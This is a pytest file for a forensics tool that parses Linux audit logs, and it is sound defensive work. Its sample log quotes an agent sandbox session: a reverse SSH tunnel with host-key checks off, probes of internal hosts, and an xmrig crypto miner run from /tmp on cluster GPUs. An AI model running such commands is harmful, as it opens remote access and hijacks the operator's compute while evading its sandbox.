"""Linux audit logs: what the host says actually ran on gpu-node-03, and what it connected to."""

from __future__ import annotations

from pathlib import Path

import pytest

from forensics import Case
from forensics.host import sockaddr
from forensics.registry import Sniff, get_parser

DATA = Path(__file__).resolve().parent / "data" / "host"
WALLET_PREFIX = "48888888888AbCdEfGhJkLmNpQrStUvWxYz"


@pytest.fixture()
def case(tmp_path):
    with Case(tmp_path / "case.duckdb") as c:
        yield c


@pytest.fixture(scope="module")
def sbx_ingest(tmp_path_factory):
    """gpu-node-03's sample audit log, ingested once for the tests that only read it."""
    with Case(tmp_path_factory.mktemp("sbx") / "case.duckdb") as c:
        yield c, c.ingest([str(DATA / "audit_sbx.log")], host="gpu-node-03")


@pytest.fixture()
def sbx(sbx_ingest):
    return sbx_ingest[0]


def _one(case: Case, sql: str, params=None):
    rows = case.con.execute(sql, params or []).fetchall()
    assert len(rows) == 1, rows
    return rows[0]


def test_sniff_claims_raw_and_interpreted_audit_logs_only():
    parser = get_parser("auditd")
    for name in ("audit_sbx.log", "ausearch_i.log"):
        head = (DATA / name).read_bytes()[:65536]
        assert parser.sniff(Sniff(name="x", path="x", head=head)) >= 0.9
    syslog = b"Feb 17 10:13:45 gpu-node-03 sshd[811]: Accepted publickey for root from 10.20.0.5\n" * 20
    assert parser.sniff(Sniff(name="audit.log", path="audit.log", head=syslog)) == 0.0


def test_sandbox_processes_with_hex_arguments_decoded(sbx_ingest):
    case, summary = sbx_ingest
    assert summary.outcomes[0].parser == "auditd"
    assert case.con.execute("SELECT count(*) FROM processes").fetchone()[0] == 13

    # The agent's shell: bash -c with the command hex-encoded because it holds spaces.
    argv, cmdline, ppid, cwd, locator = _one(
        case, "SELECT argv, cmdline, ppid, cwd, locator FROM processes WHERE pid = 48100")
    assert argv == ["bash", "-c", "nvidia-smi && ip addr"]
    assert cmdline == "bash -c nvidia-smi && ip addr"
    assert (ppid, cwd, locator) == (48000, "/workspace", "line:8")

    # The sandbox's init process names its sandbox and container.
    sandbox, container, exe = _one(
        case, "SELECT sandbox, container_id, exe FROM processes WHERE pid = 48000")
    assert sandbox == "sbx-0317"
    assert container.startswith("9f1c2e7a4b5d")
    assert exe == "/usr/local/bin/sandbox-init"

    # The reverse tunnel as the kernel saw it exec'd.
    argv, exe, uid, auid, ts = _one(case, "SELECT argv, exe, uid, auid, ts FROM processes WHERE pid = 48150")
    assert argv == ["ssh", "-fN", "-R", "2222:localhost:22", "-o", "StrictHostKeyChecking=no",
                    "tunnel@203.0.113.50"]
    assert exe == "/usr/bin/ssh" and uid == 1000 and auid is None
    assert ts.isoformat() == "2026-02-17T02:13:45.010000+00:00"


def test_long_argument_split_over_records_is_reassembled(sbx):
    case = sbx
    argv, extra = _one(case, "SELECT argv, extra FROM processes WHERE pid = 48211")
    assert argv[0] == "/tmp/.x/xmrig" and argv[1:3] == ["-o", "stratum+tcp://xmr.pool.example.com:3333"]
    assert argv[4].startswith(WALLET_PREFIX)
    assert argv[8] == "--cuda-devices=6,7"
    # a10 was written as a10_len=239 a10[0]=... a10[1]=... over two EXECVE records
    assert argv[10] == "--cuda-loader=/tmp/.x/libxmrig-cuda.so " + "x" * 200
    assert '"paths":["/tmp/.x/xmrig"' in extra
    warnings = case.sql("SELECT locator, reason FROM parse_warnings")
    assert not warnings["reason"].str.contains("missing chunks").any()


def test_connects_decoded_with_outcome(sbx):
    case = sbx
    rows = case.con.execute(
        "SELECT pid, exe, family, remote_ip, remote_port, success, result, locator FROM process_sockets "
        "ORDER BY ts").fetchall()
    assert rows == [
        (48110, "/usr/bin/bash", "inet", "10.20.1.12", 22, False, "ECONNREFUSED", "line:36"),
        (48110, "/usr/bin/bash", "inet", "10.20.1.13", 6379, True, "ok", "line:39"),
        (48150, "/usr/bin/ssh", "inet", "203.0.113.50", 22, True, "ok", "line:56"),
        # curl's non-blocking connect: EINPROGRESS says nothing yet about the outcome
        (48180, "/usr/bin/curl", "inet", "203.0.113.80", 80, None, "EINPROGRESS", "line:67"),
        (48211, "/tmp/.x/xmrig", "inet", "198.51.100.77", 3333, True, "ok", "line:81"),
        (48211, "/tmp/.x/xmrig", "inet6", "2001:db8::77", 3333, False, "ENETUNREACH", "line:85"),
    ]


def test_records_out_of_order_and_interleaved_group_by_event_id(sbx):
    case = sbx
    # sleep's PROCTITLE and EXECVE came before its SYSCALL, mixed with cat's records
    assert _one(case, "SELECT argv, exe, locator FROM processes WHERE pid = 48230") == (
        ["sleep", "3600"], "/usr/bin/sleep", "line:93")
    assert _one(case, "SELECT argv, exe FROM processes WHERE pid = 48231") == (
        ["cat", "/etc/hostname"], "/usr/bin/cat")


def test_bad_records_become_warnings_with_locators(sbx_ingest):
    case, summary = sbx_ingest
    assert summary.outcomes[0].n_warnings == 3
    warnings = dict(case.con.execute("SELECT locator, reason FROM parse_warnings").fetchall())
    assert warnings["line:116"] == "not an audit record"
    assert "argument 2 is cut or not valid hex" in warnings["line:104"]
    assert "without its SYSCALL record" in warnings["line:110"]
    # nothing is lost: the cut argument keeps its readable bytes, the orphan exec keeps its argv
    assert _one(case, "SELECT argv[3] FROM processes WHERE locator = 'line:103'")[0].startswith("import os; os.system(")
    assert _one(case, "SELECT argv, pid FROM processes WHERE locator = 'line:110'") == (["uname", "-a"], None)


def test_ausearch_interpreted_output_in_local_time(case):
    case.ingest([str(DATA / "ausearch_i.log")], host="gpu-node-03", timezone="Asia/Shanghai")
    ts, inferred, user, uid, cwd, argv = _one(
        case, "SELECT ts, ts_inferred, user_name, uid, cwd, argv FROM processes WHERE pid = 48150")
    # 10:13:45.010 in Shanghai is 02:13:45.010 UTC, the same instant as the raw log's record
    assert ts.isoformat() == "2026-02-17T02:13:45.010000+00:00" and inferred
    assert (user, uid, cwd) == ("sandbox", None, "/workspace/my project")
    assert argv == ["ssh", "-fN", "-R", "2222:localhost:22", "tunnel@203.0.113.50"]
    # an interpreted argument with a space stays one argument
    assert _one(case, "SELECT argv FROM processes WHERE pid = 48211")[0] == [
        "/tmp/.x/xmrig", "--config", "/tmp/.x/my config.json", "--cuda"]
    rows = case.con.execute("SELECT pid, family, remote_ip, remote_port, success, result FROM process_sockets "
                            "ORDER BY ts").fetchall()
    assert rows == [(48150, "inet", "203.0.113.50", 22, True, "ok"),
                    (48180, "inet6", "2001:db8::80", 80, None, "EINPROGRESS")]


def test_ausearch_without_zone_hint_is_read_as_utc_and_says_so(case):
    case.ingest([str(DATA / "ausearch_i.log")], host="gpu-node-03")
    assert _one(case, "SELECT ts FROM processes WHERE pid = 48150")[0].isoformat().startswith("2026-02-17T10:13:45")
    assert case.con.execute("SELECT count(*) FROM parse_warnings WHERE reason LIKE 'ausearch -i prints local times%'"
                            ).fetchone()[0] == 1


def test_interleaved_hosts_are_told_apart_by_node(tmp_path, case):
    lines = []
    for node, pid in (("gpu-node-01", 700), ("gpu-node-03.cluster.local", 900)):
        lines.append(f"node={node} type=SYSCALL msg=audit(1771294400.100:55): arch=c000003e syscall=59 "
                     f"success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid={pid} auid=0 uid=0 gid=0 "
                     f'euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="id" exe="/usr/bin/id" key=(null)')
    lines.insert(1, 'node=gpu-node-01 type=EXECVE msg=audit(1771294400.100:55): argc=1 a0="id"')
    lines.append('node=gpu-node-03.cluster.local type=EXECVE msg=audit(1771294400.100:55): argc=2 a0="id" a1="-u"')
    path = tmp_path / "audit.log"
    path.write_text("\n".join(lines) + "\n")
    # the same event id on two hosts: two launches, each with its own argv
    case.con.execute("INSERT INTO entities (kind, value, host) VALUES ('host', 'gpu-node-03', 'gpu-node-03')")
    case.ingest([str(path)])
    rows = case.con.execute("SELECT host, pid, argv FROM processes ORDER BY pid").fetchall()
    assert rows == [("gpu-node-01", 700, ["id"]), ("gpu-node-03", 900, ["id", "-u"])]


def test_sockaddr_decoding_ipv4_ipv6_unix():
    # 203.0.113.50:22 as x86-64 writes struct sockaddr_in
    assert sockaddr.decode("02000016CB00713200000000000000") == sockaddr.SockAddr("inet", "203.0.113.50", 22)
    # [2001:db8::77]:3333 as struct sockaddr_in6
    v6 = "0A000D05" + "00000000" + "20010DB8000000000000000000000077" + "00000000"
    assert sockaddr.decode(v6) == sockaddr.SockAddr("inet6", "2001:db8::77", 3333)
    # an IPv4-mapped IPv6 address is shown as the IPv4 address it is
    mapped = "0A000050" + "00000000" + "00000000000000000000FFFFCB007150" + "00000000"
    assert sockaddr.decode(mapped).address == "203.0.113.80"
    assert sockaddr.decode("01002F7661722F72756E2F6E7363642F736F636B657400") == sockaddr.SockAddr(
        "local", path="/var/run/nscd/socket")
    assert sockaddr.decode("0100006162737472616374").path == "@abstract"
    # a big-endian host writes the family the other way round
    assert sockaddr.decode("0002D9030A000001").address == "10.0.0.1"
    assert sockaddr.decode("{ saddr_fam=inet6 laddr=2001:db8::80 lport=80 lflowinfo=0 lscope=0 }") == \
        sockaddr.SockAddr("inet6", "2001:db8::80", 80)
    assert sockaddr.decode("%02%00%00%16%cb%00%71%32%00%00%00%00%00%00%00%00").address == "203.0.113.50"
    truncated = sockaddr.decode("0A000D0500000000200")
    assert truncated.error and truncated.port == 3333
    assert sockaddr.decode("zz").error == "sockaddr is not hex"


def test_file_with_bad_bytes_keeps_its_line_numbers(tmp_path, case):
    good = 'type=SYSCALL msg=audit(1771294400.100:60): arch=c000003e syscall=59 success=yes exit=0 ' \
           'items=1 ppid=1 pid=77 auid=0 uid=0 comm="id" exe="/usr/bin/id" key=(null)'
    path = tmp_path / "audit.log"
    path.write_bytes(b"garbage \xff\xfe bytes\r\n" + b"nul\x00inside\n" + good.encode() + b"\r\n"
                     + b'type=EXECVE msg=audit(1771294400.100:60): argc=1 a0="id"\n')
    case.ingest([str(path)], host="gpu-node-03", format="auditd")
    assert _one(case, "SELECT pid, argv, locator FROM processes") == (77, ["id"], "line:3")
    reasons = case.con.execute("SELECT locator, reason FROM parse_warnings ORDER BY locator, reason").fetchall()
    assert ("line:1", "line holds bytes that are not UTF-8 (kept as \\xNN escapes)") in reasons
    assert ("line:2", "line holds NUL, \\x01 or carriage-return bytes (kept as \\xNN escapes)") in reasons
    assert ("line:1", "not an audit record") in reasons


def test_records_forwarded_through_syslog_keep_their_fields(tmp_path, case):
    # audisp's syslog plugin puts a syslog header in front of each record
    path = tmp_path / "messages"
    path.write_text(
        'Feb 17 10:13:45 gpu-node-03 audisp-syslog: node=gpu-node-03 type=SYSCALL msg=audit(1771294425.010:9109): '
        'arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=48140 pid=48150 '
        'auid=4294967295 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 '
        'tty=(none) ses=4294967295 comm="ssh" exe="/usr/bin/ssh" subj=unconfined key="exec"\n'
        'Feb 17 10:13:45 gpu-node-03 audisp-syslog: node=gpu-node-03 type=EXECVE msg=audit(1771294425.010:9109): '
        'argc=3 a0="ssh" a1="-R" a2="2222:localhost:22"\n'
        'Feb 17 10:13:45 gpu-node-03 audisp-syslog: type=SYSCALL msg=audit(17712944\n')
    case.ingest([str(path)], format="auditd")
    assert _one(case, "SELECT host, pid, ppid, exe, argv FROM processes") == (
        "gpu-node-03", 48150, 48140, "/usr/bin/ssh", ["ssh", "-R", "2222:localhost:22"])
    assert case.con.execute("SELECT locator, reason FROM parse_warnings").fetchall() == [
        ("line:3", "audit record without a readable event id")]
